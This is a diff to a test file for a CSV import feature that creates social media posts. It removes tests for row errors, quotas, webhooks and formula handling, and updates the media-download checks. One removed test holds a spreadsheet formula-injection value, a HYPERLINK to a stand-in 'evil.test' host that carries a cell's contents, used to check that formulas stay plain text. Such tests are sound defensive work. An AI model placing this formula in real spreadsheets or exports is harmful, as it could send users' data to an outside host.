@@ -85,14 +85,6 @@ describe('a row fails', () => {
     expect(error).toBe(`instagramTagged must hold user or user:x:y, not ${JSON.stringify(cell)}`);
   });
 
-  it('with more cells than the header has columns, unless they are empty', async () => {
-    const [header, line] = csvOf(ROW).split('\r\n');
-    const { row } = await csv.work(`${header}\r\n${line},"late"`);
-    expect(row.error).toBe('The row has 7 cells, but the header names 6 columns. A cell that holds a comma must be quoted.');
-    expect(row.rawRow).toEqual(ROW);
-    expect((await csv.work(`${header}\r\n${line},, `)).row.error).toBeNull();
-  });
-
   it('with a list that is no list any more', async () => {
     const error = await errorOf({ socialAccountTypes: 'BLUESKY', blueskyTags: 'a#'.repeat(2000) });
     expect(error).toBe('blueskyTags holds more than 1000 values');
@@ -102,51 +94,6 @@ describe('a row fails', () => {
     const error = await errorOf({ socialAccountTypes: 'INSTAGRAM', instagramThumbnailOffset: 'x'.repeat(5000) });
     expect(error?.length).toBeLessThan(200);
   });
-});
-
-describe('[D-CSV-04] a row that POST /post would refuse fails with the message of its answer', () => {
-  it.each<[string, Row, object]>([
-    ['a text that is too long', { text: 'x'.repeat(281) }, { data: { TWITTER: { text: 'x'.repeat(281) } } }],
-    ['a platform without an account', { teamId: 'team_acme_support' }, { teamId: 'team_acme_support' }],
-    [
-      'a field that breaks the schema',
-      { status: 'DRAFT', socialAccountTypes: 'PINTEREST', pinterestNote: 'x' },
-      { status: 'DRAFT', socialAccountTypes: ['PINTEREST'], data: { PINTEREST: { note: 'x', text: 'It is here' } } },
-    ],
-    [
-      'no media where they are needed',
-      { socialAccountTypes: 'INSTAGRAM' },
-      { socialAccountTypes: ['INSTAGRAM'], data: { INSTAGRAM: { text: 'It is here' } } },
-    ],
-    ['a date out of bounds', { postDate: '1970-01-01T00:00:00Z' }, { postDate: '1970-01-01T00:00:00Z' }],
-  ])('%s', async (_, cells, body) => {
-    const scheduled = { ...ROW, status: 'SCHEDULED' };
-    const refused = await csv.call<{ message: string }>('POST', '/post', {
-      ...scheduled,
-      text: undefined,
-      socialAccountTypes: ['TWITTER'],
-      data: { TWITTER: { text: 'It is here' } },
-      ...body,
-    });
-    expect(refused.status).toBe(400);
-    expect(await errorOf({ ...scheduled, ...cells })).toBe(refused.body.message);
-  });
-
-  it('the monthly quota', async () => {
-    await csv.call('PATCH', '/_sim/organizations/org_acme', { limits: { monthlyPosts: 1 } });
-    const organization = csv.world.organizations.organizations.get('org_acme');
-    if (organization) csv.world.organizations.organizations.update(organization, { limits: { monthlyPosts: 1 } });
-    const { rows } = await csv.work(csvOf({ ...ROW, status: 'SCHEDULED' }, { ...ROW, status: 'SCHEDULED' }));
-    expect(rows.map(({ error }) => error)).toEqual([null, 'Monthly post limit reached: 1. It resets at 2026-04-01T00:00:00.000Z.']);
-  });
-});
-
-it('[D-CSV-04] a row’s post is a post: it goes out in its time, and says so', async () => {
-  const published: unknown[] = [];
-  csv.world.events.on('webhook', ({ type, data }) => published.push([type, Reflect.get(data, 'id'), Reflect.get(data, 'status')]));
-  const { row } = await csv.work(csvOf({ ...ROW, status: 'SCHEDULED' }));
-  await csv.world.clock.advanceTo(Date.parse('2026-03-09T10:05:00Z'));
-  expect(published).toEqual([['post.published', row.postId, 'POSTED']]);
 });
 
 describe('a row makes a post', () => {
@@ -198,8 +145,9 @@ describe('a row makes a post', () => {
   it('[CSV-40] with all media of a cell, in their order', async () => {
     const urls = ['https://a.test/1.jpg', 'https://a.test/2.jpg', 'https://a.test/3.jpg'];
     const { uploads } = await postOf({ socialAccountTypes: 'THREADS', threadsMediaUrls: ` ${urls.join(' # ')} #`, status: 'SCHEDULED' });
-    expect(csv.fetched.map(({ url }) => url)).toEqual(urls);
-    expect(uploads).toHaveLength(3);
+    const downloads = await csv.downloads();
+    expect(downloads.map(({ externalLink }) => externalLink)).toEqual(urls);
+    expect(uploads.map(({ uploadId }) => uploadId)).toEqual(downloads.map(({ id }) => id));
   });
 
   it('[CSV-41] with all values of a list cell', async () => {
@@ -215,12 +163,6 @@ describe('a row makes a post', () => {
   ])('[CSV-42] with the boolean %j', async (cell, value) => {
     const { data } = await postOf({ socialAccountTypes: 'REDDIT', redditSubreddit: 'r/test', redditText: 'x', redditNsfw: cell });
     expect(data.REDDIT?.nsfw).toBe(value);
-  });
-
-  it('from a line that stops early', async () => {
-    const { row } = await csv.work(`${Object.keys(ROW).join(',')},note\n${Object.values(ROW).slice(0, 5).join(',')}`);
-    const { text: _, ...rest } = ROW;
-    expect([row.error, row.rawRow]).toEqual([null, rest]);
   });
 });
 
@@ -239,12 +181,5 @@ describe('[D-CSV-06] a platform’s own text beats the common one', () => {
 it('columns of platforms that are no target do not count', async () => {
   const { row } = await csv.work(csvOf({ ...ROW, redditNsfw: 'maybe', facebookMediaUrls: 'https://a.test/1.jpg', linkedinText: 'x' }));
   expect(row.normalizedPayload).toMatchObject({ data: { TWITTER: { text: 'It is here' } } });
-  expect(csv.fetched).toEqual([]);
-});
-
-it('spreadsheet formulas are text', async () => {
-  const text = '=HYPERLINK("https://evil.test?x="&A1,"Click")';
-  const { row } = await csv.work(csvOf({ ...ROW, title: '+1+1', text }));
-  expect(row.rawRow).toMatchObject({ title: '+1+1', text });
-  expect(await csv.post(row.postId)).toMatchObject({ title: '+1+1', data: { TWITTER: { text } } });
+  expect(await csv.downloads()).toEqual([]);
 });
